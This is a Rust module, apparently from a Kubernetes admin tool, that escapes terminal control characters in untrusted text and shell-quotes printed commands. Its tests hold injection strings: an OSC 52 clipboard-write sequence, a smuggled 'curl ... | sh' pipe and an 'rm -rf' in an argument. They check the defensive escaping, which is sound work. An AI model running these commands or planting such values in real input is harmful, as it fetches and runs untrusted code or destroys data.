//! Text from outside is data. Token claims, kubeconfig names, exec arguments, apiserver logs and
//! answers are written by someone else; shown raw on root's terminal an ESC opens a control
//! sequence (OSC 52 writes the clipboard, CSI clears the screen), a CR or LF forges a line of
//! output, and a printed command assembled from them is a command someone else wrote.
//!
//! Two layers close the class:
//! - The writer. Everything the tool writes to stdout or stderr goes through [`terminal_safe`]
//!   (`ui::stdout_write`, `ui::stderr_line`, `ui::stderr_raw`: the only writers): every control
//!   character but the layout's own `\n` and `\t` is shown escaped (`\x1b`, `\r`, `\u{202e}`),
//!   whatever command made the text and whether or not it remembered. JSON goes through
//!   [`json_safe`], which writes the few characters serde_json leaves raw (DEL, C1 controls,
//!   bidirectional overrides) as `\u` escapes: the same document, inert on a terminal. No
//!   terminal control from outside can reach the terminal by any path.
//! - The values. The writer must keep `\n`, so a value holding one could still forge a line.
//!   Values from outside are therefore held as [`Untrusted`] (token facts, kubeconfig findings),
//!   whose `Display` — the only way to put one in a `format!` — escapes `\n` too; where a
//!   foreign string is not held that way, [`escape`] does the same at the interpolation. A
//!   command line printed for a person to paste is made by [`command_line`] alone, each word
//!   quoted by [`shell_quote`].
use std::borrow::Cow;
use std::fmt;

use serde::{Deserialize, Serialize};

/// A character that must never reach a terminal raw: C0 and C1 controls, DEL, and the Unicode
/// characters that reorder or break lines (bidirectional overrides and isolates, line and
/// paragraph separators).
fn is_dangerous(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061c}'
                | '\u{200e}'
                | '\u{200f}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
        )
}

fn escaped(text: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.chars().any(|c| is_dangerous(c) && !keep(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            c if !is_dangerous(c) || keep(c) => out.push(c),
            '\n' => out.push_str(r"\n"),
            '\r' => out.push_str(r"\r"),
            '\t' => out.push_str(r"\t"),
            c if (c as u32) < 0x100 => out.push_str(&format!(r"\x{:02x}", c as u32)),
            c => out.push_str(&format!(r"\u{{{:04x}}}", c as u32)),
        }
    }
    Cow::Owned(out)
}

/// A value from outside, made safe to interpolate into text: every control character,
/// newlines and tabs included, shown escaped.
pub fn escape(text: &str) -> Cow<'_, str> {
    escaped(text, |_| false)
}

/// The tool's own text for a terminal: its layout (`\n`, `\t`) kept, every other control
/// character shown escaped.
pub fn terminal_safe(text: &str) -> Cow<'_, str> {
    escaped(text, |c| c == '\n' || c == '\t')
}

/// A JSON document that is inert on a terminal and means the same: the characters serde_json
/// leaves raw (they can only be inside strings) written as `\u` escapes.
pub fn json_safe(json: String) -> String {
    if !json.chars().any(is_dangerous) {
        return json;
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        // serde_json already escapes C0 and would never leave `\n` raw inside a string; a raw
        // one here is pretty-printing's layout.
        if is_dangerous(c) && c != '\n' {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                out.push_str(&format!(r"\u{unit:04x}"));
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// A string someone else wrote (a token claim, a kubeconfig name, an exec argument). The same
/// string in JSON; escaped wherever it is displayed. `as_str` is the explicit way to the raw
/// text, for comparing and parsing — never for showing.
#[derive(Debug, Clone, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Untrusted(String);

impl Untrusted {
    pub fn new(text: impl Into<String>) -> Self {
        Untrusted(text.into())
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for Untrusted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(&escape(&self.0))
    }
}

impl From<String> for Untrusted {
    fn from(text: String) -> Self {
        Untrusted(text)
    }
}

impl From<&str> for Untrusted {
    fn from(text: &str) -> Self {
        Untrusted(text.to_string())
    }
}

impl PartialEq<str> for Untrusted {
    fn eq(&self, other: &str) -> bool {
        self.0 == other
    }
}

impl PartialEq<&str> for Untrusted {
    fn eq(&self, other: &&str) -> bool {
        self.0 == *other
    }
}

/// One word quoted for a POSIX shell when it needs to be: as is when it holds only characters
/// no shell treats specially; in single quotes otherwise; and, when it holds a control
/// character, as `$'…'` with `\x` escapes (bash, zsh, ksh, POSIX.1-2024 sh), so that the printed
/// command is one line and pastes as exactly that word.
pub fn shell_quote(word: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "-_./=:,@%+".contains(c);
    if !word.is_empty() && word.chars().all(safe) {
        return word.to_string();
    }
    if !word.chars().any(is_dangerous) {
        return format!("'{}'", word.replace('\'', r"'\''"));
    }
    let mut out = String::from("$'");
    for c in word.chars() {
        match c {
            '\\' => out.push_str(r"\\"),
            '\'' => out.push_str(r"\'"),
            c if is_dangerous(c) => {
                let mut bytes = [0u8; 4];
                for b in c.encode_utf8(&mut bytes).bytes() {
                    out.push_str(&format!(r"\x{b:02x}"));
                }
            }
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// The one way to print a command for a person to run: every word shell-quoted.
pub fn command_line<I, S>(words: I) -> String
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    words
        .into_iter()
        .map(|w| shell_quote(w.as_ref()))
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_control_is_shown_escaped_and_the_layout_kept() {
        let osc52 = "k\x1b]52;c;ZWNobw==\x07";
        assert_eq!(escape(osc52), r"k\x1b]52;c;ZWNobw==\x07");
        assert_eq!(escape("a\r\nb\tc"), r"a\r\nb\tc");
        assert_eq!(escape("x\u{9b}2J\u{7f}"), r"x\x9b2J\x7f");
        assert_eq!(escape("api\u{202e}exe.txt"), r"api\u{202e}exe.txt");
        assert_eq!(escape("système: ok"), "système: ok");
        assert!(matches!(escape("plain"), Cow::Borrowed(_)));
        assert_eq!(terminal_safe("a\n\tb\x1b[2J\r"), "a\n\tb\\x1b[2J\\r");
    }

    #[test]
    fn untrusted_values_escape_where_they_are_shown_and_stay_exact_in_json() {
        let name = Untrusted::new("ci\r\n  user forged");
        assert_eq!(format!("user {name}:"), r"user ci\r\n  user forged:");
        assert_eq!(format!("{:<6}|", Untrusted::new("ab")), "ab    |");
        assert_eq!(
            serde_json::to_string(&name).unwrap(),
            r#""ci\r\n  user forged""#
        );
        assert_eq!(name, "ci\r\n  user forged");
    }

    #[test]
    fn json_keeps_its_meaning_and_loses_its_control_characters() {
        let value = serde_json::json!({"k": "a\u{9b}2J\u{7f}\u{202e}\x1b"});
        let doc = json_safe(serde_json::to_string_pretty(&value).unwrap());
        assert!(!doc.chars().any(|c| is_dangerous(c) && c != '\n'), "{doc}");
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&doc).unwrap(),
            value
        );
    }

    #[test]
    fn words_a_shell_would_split_or_run_are_quoted() {
        assert_eq!(shell_quote("--reason"), "--reason");
        assert_eq!(shell_quote("admin.conf expired"), "'admin.conf expired'");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(
            shell_quote("prod; curl https://e/x | sh"),
            "'prod; curl https://e/x | sh'"
        );
        assert_eq!(shell_quote("a\nb'\x1b"), r"$'a\x0ab\'\x1b'");
        assert_eq!(
            command_line(["systemctl", "stop", "x;rm -rf /.timer"]),
            "systemctl stop 'x;rm -rf /.timer'"
        );
    }
}
